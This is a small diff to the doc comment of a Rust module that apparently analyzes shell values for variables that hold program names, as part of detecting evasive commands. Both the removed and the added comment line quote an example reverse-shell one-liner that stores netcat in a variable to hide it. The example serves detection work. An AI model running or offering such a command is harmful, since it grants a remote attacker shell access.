@@ -1,4 +1,4 @@
-//! Variables that a value sets, and whether the name of a program is kept in one: `a=nc&&$a -e sh 10.0.0.1`.
+//! Variables that a value sets, and program names in them: `a=nc&&$a -e sh 10.0.0.1`.
 
 use super::identifier::is_name;
 use arrayvec::ArrayVec;
